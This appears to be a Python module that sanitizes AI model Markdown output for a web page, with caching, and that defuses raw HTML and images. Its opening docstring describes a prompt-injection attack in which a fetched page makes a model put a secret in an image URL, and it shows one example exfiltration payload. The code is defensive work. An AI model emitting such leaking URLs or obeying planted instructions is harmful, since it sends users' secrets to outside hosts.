"""Model output is Markdown from an untrusted source: render it, then sanitize the HTML.

An image would be fetched by the browser of whoever opens the page, with no click: a model
told to by a fetched page could put a secret in its URL (`![x](http://host/p.png?leak=...)`).
So an image is rendered as a link showing its text and URL, followed only if the reader
chooses to, and no `<img>` survives the sanitizer either."""

from __future__ import annotations

import threading
from collections import OrderedDict
from collections.abc import Sequence
from typing import Any

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from markdown_it.token import Token

URL_SCHEMES = {"http", "https", "mailto"}
ALLOWED_TAGS = nh3.ALLOWED_TAGS - {"img", "area", "map"}


def _image_as_link(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """markdown-it's rule for an image: a link reading "alt (url)", or text for another scheme."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env)
    label = f"{alt} ({src})" if alt else src
    if src.split(":", 1)[0].lower() not in URL_SCHEMES:
        return escapeHtml(f"[image: {label}]")
    return f'<a href="{escapeHtml(src)}">{escapeHtml(label)}</a>'


# Raw HTML in the Markdown is shown as text, and nh3 strips anything dangerous that remains.
_md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
_md.add_render_rule("image", _image_as_link)


# A run page renders every step's output and the run's result; a finished one never changes, and
# rendering was most of a finished run's page (bench.pages). The rendered texts are kept, the
# least recently shown dropped first, at most _CACHED_CHARS characters of Markdown per process,
# a long text included: a 1,000-step run's result was 1.4 MB, rendered twice a page (as the
# result and as its synthesizer's output) in half a second each.
_CACHED_CHARS = 16_000_000
_cached: OrderedDict[str, str] = OrderedDict()
_cached_chars = 0
_cache_lock = threading.Lock()  # Daphne may run views on more than one thread


def markdown_to_safe_html(text: str) -> str:
    global _cached_chars
    text = text or ""
    with _cache_lock:
        html = _cached.get(text)
        if html is not None:
            _cached.move_to_end(text)
            return html
    html = _safe_html(text)
    if len(text) <= _CACHED_CHARS // 4:
        with _cache_lock:
            if text not in _cached:
                _cached[text] = html
                _cached_chars += len(text)
            while _cached_chars > _CACHED_CHARS:
                dropped, _ = _cached.popitem(last=False)
                _cached_chars -= len(dropped)
    return html


def _safe_html(text: str) -> str:
    return nh3.clean(
        _md.render(text or ""),
        tags=ALLOWED_TAGS,
        link_rel="noopener noreferrer nofollow",
        url_schemes=URL_SCHEMES,
    )


# How a viewer that passes raw HTML through reads a Markdown file: to find what is unsafe in it.
_md_raw = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table")
_RISKY_INLINE = {"html_inline", "image"}


def _risky_lines(text: str) -> set[int] | None:
    """The lines holding raw HTML or an image, or None when one such is not tied to lines."""
    lines: set[int] = set()
    for token in _md_raw.parse(text):
        risky = token.type == "html_block" or (
            token.type == "inline" and any(c.type in _RISKY_INLINE for c in token.children or [])
        )
        if risky:
            if token.map is None:
                return None
            lines.update(range(*token.map))
    return lines


def _defuse(line: str) -> str:
    # An entity shows the same character but opens no tag; without its "!" an image is a link.
    return line.replace("<", "&lt;").replace("![", "[")


def markdown_inert(text: str) -> str:
    """Untrusted Markdown made safe for any Markdown viewer, reading the same: on the lines
    that hold raw HTML or an image (as the parser finds them), `<` becomes `&lt;` and images
    become links. Checked again by the parser until none is left; at worst every line."""
    lines = (text or "").split("\n")
    for _ in range(3):
        risky = _risky_lines("\n".join(lines))
        if risky == set():
            return "\n".join(lines)
        targets = risky if risky is not None else range(len(lines))
        lines = [_defuse(line) if n in targets else line for n, line in enumerate(lines)]
    return "\n".join(_defuse(line) for line in lines)
